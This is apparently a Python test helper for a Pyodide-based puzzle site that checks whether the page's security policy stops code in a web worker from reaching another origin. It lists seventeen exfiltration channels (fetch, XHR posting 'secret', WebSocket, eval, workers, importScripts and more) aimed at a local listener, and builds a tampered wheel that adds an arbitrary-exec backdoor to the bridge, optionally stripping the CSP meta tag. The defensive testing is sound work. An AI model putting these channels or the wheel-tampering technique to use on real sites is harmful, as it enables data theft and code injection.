"""Ways to send something to another server from Python that runs in the page's worker.

A search is a program, and one that a reader was talked into may try to tell a stranger
what it sees. Each way here is Python that goes through `js`; {url} is the stranger's
address and {socket} the same for sockets. The listening stranger is `Stranger`.
"""

import json
import re
import shutil
import socket
import threading
import zipfile
from contextlib import contextmanager, suppress
from pathlib import Path

from setup.tools import SITE
from website.manifest import NAME, write_manifest

__all__ = ["WAYS", "Stranger", "altered_site", "hostile_site", "stranger"]

EVENTS = """
import asyncio
def settled(target, *names):
    future = asyncio.get_running_loop().create_future()
    def heard(event):
        if not future.done():
            future.set_result(event.type)
    for name in names:
        target.addEventListener(name, create_proxy(heard))
    return future
"""

WORKER = """
blob = js.Blob.new(to_js([{text}]), type="text/javascript")
worker = js.Worker.new(js.URL.createObjectURL(blob), {options})
await settled(worker, "message", "error")
"""

WAYS = {
    "fetch": "await js.fetch('{url}')",
    "fetch without an answer": "await js.fetch('{url}', mode='no-cors')",
    "fetch that outlives its page": "await js.fetch('{url}', keepalive=True)",
    "a request of the old kind": """
request = js.XMLHttpRequest.new()
request.open("POST", "{url}")
request.send("secret")
await settled(request, "load", "error")
""",
    "a request that blocks": """
request = js.XMLHttpRequest.new()
request.open("POST", "{url}", False)
request.send("secret")
""",
    "a socket": (
        "await settled(js.WebSocket.new('{socket}'), 'open', 'error', 'close')"
    ),
    "a stream of events": (
        "await settled(js.EventSource.new('{url}'), 'open', 'error')"
    ),
    "a cache": "await (await js.caches.open('x')).add('{url}')",
    "a typeface": "await js.FontFace.new('x', 'url({url})').load()",
    "eval": "await js.eval(\"fetch('{url}')\")",
    "a function made of text": "await js.Function.new(\"return fetch('{url}')\")()",
    "a module made of text": (
        "from pyodide.code import run_js\nawait run_js(\"import('{url}')\")"
    ),
    "a timer with a text": """
js.setTimeout("fetch('{url}').finally(() => dispatchEvent(new Event('sent')))")
await settled(js.self, "sent")
""",
    "a worker of its own": WORKER.replace(
        "{text}", "\"fetch('{url}').then(() => postMessage(0), () => postMessage(1))\""
    ).replace("{options}", "type='classic'"),
    "a worker that imports": WORKER.replace(
        "{text}", "\"import '{url}'; postMessage(0)\""
    ).replace("{options}", "type='module'"),
    "a worker that loads a script": WORKER.replace(
        "{text}", "\"try { importScripts('{url}') } catch {} postMessage(0)\""
    ).replace("{options}", "type='classic'"),
    "a worker written into its address": """
text = "fetch('{url}').finally(() => postMessage(0))"
worker = js.Worker.new("data:text/javascript," + js.encodeURIComponent(text))
await settled(worker, "message", "error")
""",
}

# What a hostile wheel adds to the bridge: a verb that runs Python, and one that tells
# how it ended.
VERBS = """

import asyncio, textwrap
import js
from pyodide.ffi import create_proxy, to_js
ENDED = {}

def run(message):
    asked = message.fields
    async def work():
        try:
            await asyncio.wait_for(space["work"](), 10)
            ENDED[asked["name"]] = "ended"
        except BaseException as error:
            ENDED[asked["name"]] = repr(error)[:200]
    space = {"js": js, "create_proxy": create_proxy, "to_js": to_js}
    exec(EVENTS + "async def work():\\n" + textwrap.indent(asked["text"], " "), space)
    asyncio.ensure_future(work())
    return {}

VERBS["run"] = run
VERBS["ended"] = lambda asked: ENDED
"""

ANSWER = (
    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n"
    b"Content-Type: text/javascript\r\nContent-Length: 0\r\n"
    b"Connection: close\r\n\r\n"
)


class Stranger:
    """A server of another origin that hears whatever is sent to it."""

    def __init__(self, listening: socket.socket) -> None:
        self.heard: set[str] = set()
        self.host = f"127.0.0.1:{listening.getsockname()[1]}"
        self.listening = listening

    def urls(self, number: int) -> dict[str, str]:
        """The addresses of one way, which name it."""
        address = f"{self.host}/way-{number}"
        return {"url": f"http://{address}", "socket": f"ws://{address}"}

    def listen(self) -> None:
        """Hear until the socket is closed."""
        while True:
            try:
                caller, _ = self.listening.accept()
            except OSError:
                return
            threading.Thread(target=self.hear, args=[caller], daemon=True).start()

    def hear(self, caller: socket.socket) -> None:
        """Read the first line, let the browser go on, and read what else it sends.

        A connection closed upon words that nobody has read is broken, not ended, and
        then the browser may not hear the answer.
        """
        with caller:
            line = caller.recv(4096).decode("latin-1").partition("\r")[0]
            if way := re.search(r"/way-(\d+)", line):
                self.heard.add(list(WAYS)[int(way[1])])
            caller.sendall(ANSWER)
            caller.shutdown(socket.SHUT_WR)
            with suppress(ConnectionError):
                while caller.recv(4096):
                    pass


@contextmanager
def stranger():
    """Listen as long as the block runs."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        hearing = Stranger(listening)
        threading.Thread(target=hearing.listen, daemon=True).start()
        yield hearing


def altered_site(folder: Path, added: dict[str, str]) -> Path:
    """Copy the built site, with texts added to modules of the package."""
    shutil.copytree(SITE, folder)
    wheel = next((folder / "python").glob("pypuzzles-*.whl"))
    with zipfile.ZipFile(wheel) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    for name, text in added.items():
        files[name] += text.encode()
        del files[f"{name}c"]  # the bytecode of what it was
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    told = json.loads((folder / NAME).read_text("utf-8"))
    write_manifest(folder, told["python"], told["later"])
    return folder


def hostile_site(folder: Path, protected: bool) -> Path:
    """Make a site whose bridge runs any Python.

    The one that is not protected lacks the policy of its page, and nothing else.
    """
    added = f"\n\nEVENTS = {EVENTS!r}\n{VERBS}"
    altered_site(folder, {"pypuzzles/page/bridge.py": added})
    if not protected:
        page = folder / "index.html"
        text = page.read_text("utf-8")
        bare = re.sub(r"<meta\s+http-equiv[^>]*>", "", text)
        assert bare != text
        page.write_text(bare, "utf-8")
    return folder
